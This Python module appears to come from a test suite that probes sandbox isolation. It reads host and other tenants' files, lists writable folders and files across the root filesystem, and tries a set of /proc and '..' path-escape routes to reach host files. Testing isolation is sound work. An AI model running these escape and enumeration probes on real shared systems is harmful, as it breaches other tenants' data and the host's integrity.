# An attack makes the calls that it is about.
# ruff: noqa: PTH112, PTH114, PTH118, PTH123, PTH208
"""Files of the host, of other functions and of other tenants."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

from .attempt import attempt


def read(paths: list[str]) -> dict[str, Any]:
    """What can be read of each: its first 100 bytes, a folder's names, or why not."""
    return {path: attempt(_read, path) for path in paths}


def _read(path: str) -> str:
    if os.path.isdir(path):
        return ",".join(sorted(os.listdir(path)))
    with open(path, "rb") as file:
        return file.read(100).decode("latin-1")


def write(name: str) -> list[str]:
    """Folders, of all that there are, in which a file can be made."""
    found = []
    for folder, folders, _ in os.walk("/"):
        if folder == "/":
            folders[:] = [entry for entry in folders if entry != "proc"]
        path = os.path.join(folder, name)
        if not isinstance(attempt(lambda p: Path(p).write_text("x"), path), str):
            found.append(folder)
            Path(path).unlink()
    return found


def writable_files() -> list[str]:
    """Files outside /proc and /tmp that can be opened for writing."""
    found = []
    for folder, folders, names in os.walk("/"):
        if folder == "/":
            folders[:] = [entry for entry in folders if entry not in ("proc", "tmp", "dev")]
        for name in names:
            path = os.path.join(folder, name)
            if os.access(path, os.W_OK) and not os.path.islink(path):
                found.append(path)
    return found


def climb(target: str) -> dict[str, Any]:
    """The same file by every way up and out that is known."""
    ways = [
        "/.." * 10,
        "/proc/1/root",
        "/proc/self/root/..",
        "/proc/1/cwd/../../..",
        "/proc/self/cwd/../../..",
        "/proc/self/task/1/root",
        "/proc/thread-self/cwd/../..",
        "/dev/fd/0/..",
        *(f"/proc/1/fd/{number}/.." for number in range(10)),
    ]
    return {way: attempt(lambda w: _read(w + target), way) for way in ways}


def names_everywhere(part: str) -> list[str]:
    """Paths whose name has a part, in the whole root."""
    found = []
    for folder, folders, names in os.walk("/"):
        if folder == "/":
            folders[:] = [entry for entry in folders if entry != "proc"]
        found += [os.path.join(folder, name) for name in (*folders, *names) if part in name]
    return found
